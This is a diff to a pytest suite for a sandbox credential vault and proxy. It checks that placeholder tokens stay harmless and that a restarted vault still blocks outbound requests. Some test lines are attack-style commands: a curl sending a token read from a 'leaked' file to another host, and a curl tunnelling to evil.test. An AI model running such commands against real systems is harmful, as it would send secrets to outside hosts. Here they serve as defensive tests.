@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import os
 import socket
 import subprocess
@@ -10,8 +11,12 @@ from collections.abc import Iterator
 import pytest
 
 from tests.attacks.inside import Inside, inside
-from tests.hands.places import podman_only
+from tests.hands.places import Notes, new_session, own_settings, podman_only, real_hands
 from tests.vault.stage import SECRET
+from workbench.contracts import Call, NetworkRules
+from workbench.events import text_of
+from workbench.vault.client import VaultClient
+from workbench.vault.outlets import SameForAll
 from workbench.vault.placeholders import MARK
 
 pytestmark = podman_only
@@ -45,7 +50,7 @@ def test_the_done_case_a_token_gets_in_at_its_host_and_is_only_a_placeholder_eve
 def test_programs_inside_trust_the_authority_without_being_told(box: Inside, client: str) -> None:
     commands = {
         "python3 urllib": "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://good.test/\").read().decode())'",
-        "openssl": "openssl s_client -proxy 127.0.0.1:3128 -connect good.test:443 -servername good.test </dev/null 2>&1 | grep -o 'Verify return code: 0'",
+        "openssl": "openssl s_client -proxy 127.0.0.1:3128 -connect good.test:443 -servername good.test </dev/null 2>&1 | grep -o 'Verify return code: 0' | sort -u",
         "git": "git ls-remote https://good.test/x.git 2>&1 | grep -ci 'certificate' || true",
         "wget": "command -v wget >/dev/null && wget -qO- https://good.test/ || echo out",
     }
@@ -233,3 +238,27 @@ def test_s14_a_placeholder_that_is_committed_is_found_by_its_mark_and_opens_noth
     assert box.run(
         'curl -sS -H "authorization: Bearer $(cat /workspace/s14/leaked | cut -d= -f2)" https://other.test/'
     ).startswith("out")
+
+
+def test_h09_a_killed_vault_cuts_a_sandbox_off_for_a_moment_and_its_successor_serves_the_same_listener() -> None:
+    async def story() -> None:
+        with own_settings() as settings:
+            client = VaultClient(settings)
+            await client.start()
+            notices = client.ways.notices()
+            async with asyncio.timeout(100):
+                await client.vault.check()
+                hands = real_hands(settings, Notes(), outlets=SameForAll(client.ways, NetworkRules()))
+                session = new_session()
+                ask = "curl -sS -m 60 -p http://evil.test/ 2>&1"
+                before = text_of((await hands.execute(session, Call("sevt_1", "bash", {"command": ask}))).content)
+                assert client.pid is not None
+                os.kill(client.pid, 9)
+                assert (await anext(notices)).kind == "restarted"
+                after = text_of((await hands.execute(session, Call("sevt_2", "bash", {"command": ask}))).content)
+                assert before == after == "curl: (56) CONNECT tunnel failed, response 403"
+            await hands.release_all()
+            await hands.close()
+            await client.aclose()
+
+    asyncio.run(story())
